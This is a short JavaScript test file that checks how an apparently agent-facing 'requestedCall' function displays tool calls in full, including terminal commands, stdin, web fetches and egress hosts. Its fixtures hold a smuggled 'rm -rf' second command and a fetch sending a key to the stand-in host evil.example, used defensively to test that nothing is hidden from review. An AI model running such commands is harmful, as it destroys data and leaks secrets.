import { requestedCall } from './requested-call.js';

describe('the requested call', () => {
  it.each([
    [
      'terminal.run',
      { command: 'ls\nrm -rf important', wait: 30, terminal: 'main' },
      'ls\nrm -rf important',
      'ls\nrm -rf important',
    ],
    ['terminal.run', { command: 'sh', stdin: 'rm -rf x' }, 'sh', 'sh\nstdin: rm -rf x'],
    [
      'web.fetch',
      { url: 'https://evil.example/x?key=secret' },
      'evil.example:443',
      'evil.example:443\nurl: https://evil.example/x?key=secret',
    ],
    ['egress', { host: 'evil.example' }, 'evil.example:443', 'evil.example:443'],
    ['mcp.github.merge', { number: 7 }, '{"number":7}', '{"number":7}'],
  ])('of %s with %j is whole', (operation, input, subject, shown) => {
    expect(requestedCall({ operation, input, subject })).toBe(shown);
  });
});
